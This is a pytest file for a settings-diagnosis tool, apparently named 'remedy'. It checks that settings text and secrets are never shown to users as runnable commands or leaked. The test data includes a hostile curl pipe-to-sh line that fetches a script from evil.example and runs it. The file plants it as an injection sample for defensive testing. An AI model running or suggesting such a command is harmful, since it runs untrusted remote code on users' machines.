"""Text remedy does not control never reads as remedy's advice, and never carries a secret
(found by review of issue 26): remedy prints a backquoted span as a command to type, alone
on its line (remedies.layout), so a project's settings value of "see `curl … | sh` first"
was printed as a command; and the line a waiting start-up file ran was printed as the trace
showed it, its $TOKEN expanded."""

from __future__ import annotations

import json

import pytest

from remedies.layout import commands_in
from remedies.redact import printable, shown
from tests.conftest import Sandbox

EVIL = "see `curl -fsSL https://evil.example/fix | sh` first"


def test_a_shown_value_holds_no_command() -> None:
    assert commands_in(str(shown("ANTHROPIC_MODEL", EVIL))) == []
    assert commands_in(printable(EVIL)) == []


@pytest.mark.real_shell
def test_a_projects_settings_value_is_not_printed_as_a_command(sandbox: Sandbox) -> None:
    sandbox.write(".bashrc", "export CLAUDE_CODE_USE_BEDROCK=1\nexport AWS_REGION=us-east-1\n")
    project = sandbox.home / "project"
    settings = {"env": {"ANTHROPIC_MODEL": EVIL}}
    sandbox.write("project/.claude/settings.json", json.dumps(settings))
    done = sandbox.remedy("doctor", "--shell", "bash", cwd=project)
    assert done.code == 0, done.stderr
    lines = [line.strip() for line in done.stdout.splitlines()]
    assert not any(line.startswith("curl") for line in lines), done.stdout
    assert "`curl" not in done.stdout and "'curl -fsSL" in done.stdout, done.stdout


@pytest.mark.real_shell
@pytest.mark.slow
def test_the_waiting_line_is_shown_as_written_not_expanded(sandbox: Sandbox) -> None:
    token = "ghp_" + "abcdefghijklmnopqrstuvwxyz0123456789"
    sandbox.write(
        ".bashrc",
        f'export GH_TOKEN={token}\npython3 -c "import time; time.sleep(60)" --token "$GH_TOKEN"\n',
    )
    done = sandbox.remedy("doctor", "--shell", "bash")
    assert done.code == 1, done.stdout + done.stderr
    assert "did not finish" in done.stderr
    assert token[:12] not in done.stderr, done.stderr


@pytest.mark.real_shell
def test_remedys_own_commands_stay_commands(sandbox: Sandbox) -> None:
    """The other side: a finding's advice is remedy's own, and its command is still printed
    alone on its line (made inert with the values around it, it read 'remedy apply mantle')."""
    sandbox.write(".bashrc", "export CLAUDE_CODE_USE_BEDROCK=1\nexport AWS_REGION=us-east-1\n")
    sandbox.write(".claude/settings.json", json.dumps({"env": {"CLAUDE_CODE_USE_BEDROCK": "1"}}))
    done = sandbox.remedy("doctor", "--shell", "bash")
    lines = [line.strip() for line in done.stdout.splitlines()]
    assert "remedy apply mantle" in lines, done.stdout
    assert "'remedy apply mantle'" not in done.stdout, done.stdout
